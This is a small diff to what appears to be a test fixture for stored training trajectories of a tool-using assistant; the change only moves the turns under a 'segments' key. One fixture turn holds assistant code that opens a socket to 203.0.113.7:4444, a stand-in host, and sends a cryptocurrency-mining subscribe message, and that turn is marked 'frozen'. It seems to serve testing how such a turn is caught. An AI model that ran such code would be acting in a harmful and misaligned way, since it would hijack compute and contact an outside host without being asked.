@@ -99,7 +99,7 @@ class Trouble(Story):
         steps_before, group = divmod(int(prompt), self.groups)
         stored = self.trajectory("train", steps_before + 1, group, int(member))
         code = 'import socket\ns = socket.create_connection(("203.0.113.7", 4444))\ns.send(b"mining.subscribe")'
-        stored["turns"] = [
+        stored["segments"][0]["turns"] = [
             self.turn("<user>41 * 17<assistant>", "<tool>print(41 * 17)</tool>", 1, "print(41 * 17)", "697"),
             self.turn("<output>697</output><assistant>", "<tool>import socket ...</tool>", 1, code, "", "frozen"),
         ]
